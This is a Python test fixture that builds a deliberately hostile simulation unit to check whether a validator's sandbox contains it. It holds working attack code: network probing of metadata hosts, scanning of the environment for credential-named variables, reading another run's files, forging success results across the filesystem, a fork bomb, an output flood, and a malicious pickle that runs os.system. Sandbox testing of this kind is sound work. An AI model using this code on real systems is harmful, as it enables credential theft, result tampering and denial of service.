"""An FMU whose own code attacks the validator that runs it (pythonfmu builds it in the
tests). Its real output is y = 3. Each `mode` is one attack; what got through is
reported on its own outputs, so the parent's metrics say whether the sandbox held:

- 0, probe: open sockets to `hosts` ("host:port,host:port": the metadata server, the
  API), read `victim` (another run's stored file), look through its environment for
  INPUT_URI, a callback id, emulator hosts or anything named like a credential;
- 1, writes: write `output.json` (status success, y_final 1000) next to its inputs, in
  its working folder and in every folder it can reach;
- 2, prints 100 MB;
- 3, forks 1,000 processes;
- 4, sleeps past any deadline;
- 5, pickles: leaves a pickled ("ok", ...) result wherever a result could be read.
"""

import os
import pickle
import socket
import sys
import time

from pythonfmu import Fmi2Causality, Fmi2Slave, Fmi2Variability, Integer, Real, String

FORGED = b'{"status": "success", "metrics": {"y_final": 1000}, "findings": []}'
SECRET_NAMES = ("INPUT_URI", "CALLBACK", "EMULATOR", "TOKEN", "SECRET", "KEY", "CREDENTIAL")


class Exploit:
    """Unpickling this runs code: it leaves a marker file behind."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch /tmp/{self.marker}-unpickled",))


class Hostile(Fmi2Slave):
    def __init__(self, **kwargs):
        super().__init__(**kwargs)
        self.author = "Assay tests"
        self.description = "An FMU that tries to forge its verdict and reach past its run"
        self.mode = 0
        self.hosts = ""
        self.victim = ""
        self.marker = "hostile"
        self.y = 0.0
        self.reached_network = 0.0
        self.read_victim = 0.0
        self.saw_secrets = 0.0
        self.wrote = 0.0
        self.forked = 0.0
        self.done = False
        for name in ("hosts", "victim", "marker"):
            self.register_variable(
                String(name, causality=Fmi2Causality.parameter, variability=Fmi2Variability.tunable)
            )
        self.register_variable(
            Integer("mode", causality=Fmi2Causality.parameter, variability=Fmi2Variability.tunable)
        )
        for name in ("y", "reached_network", "read_victim", "saw_secrets", "wrote", "forked"):
            self.register_variable(Real(name, causality=Fmi2Causality.output))

    def do_step(self, current_time, step_size):
        if not self.done:
            self.done = True
            getattr(self, f"_attack_{self.mode}")()
        self.y = 3.0
        return True

    def _attack_0(self):
        for host in filter(None, self.hosts.split(",")):
            address, port = host.rsplit(":", 1)
            try:
                socket.create_connection((address, int(port)), timeout=2).close()
                self.reached_network += 1
            except OSError:
                pass
        try:
            with open(self.victim, "rb") as stolen:
                self.read_victim = float(len(stolen.read()) > 0)
        except OSError:
            pass
        self.saw_secrets = float(
            sum(any(word in name.upper() for word in SECRET_NAMES) for name in os.environ)
        )

    def _attack_1(self):
        folders = {os.getcwd(), "/sandbox/in", "/sandbox/out", "/tmp", os.path.expanduser("~")}
        for top in ("/", "/sandbox", "/work", "/app", "/root", "/var", "/tmp"):
            for folder, _, _ in os.walk(top):
                folders.add(folder)
                if len(folders) > 5000:
                    break
        for folder in folders:
            for name in ("output.json", f"{self.marker}.json"):
                try:
                    with open(os.path.join(folder, name), "wb") as sink:
                        sink.write(FORGED)
                    self.wrote += 1
                except OSError:
                    pass

    def _attack_2(self):
        line = b"x" * 1023 + b"\n"
        for _ in range(100 * 1024):
            sys.stdout.buffer.write(line)
        sys.stdout.flush()

    def _attack_3(self):
        children = []
        for _ in range(1000):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                time.sleep(5)
                os._exit(0)
            children.append(pid)
        self.forked = float(len(children))

    def _attack_4(self):
        time.sleep(3600)

    def _attack_5(self):
        forged = pickle.dumps(("ok", Exploit(self.marker)))
        for folder in (os.getcwd(), "/tmp"):
            for name in ("findings.json", "result.csv", "status.json", "output.json"):
                try:
                    with open(os.path.join(folder, name), "wb") as sink:
                        sink.write(forged)
                except OSError:
                    pass
        os.write(1, forged)
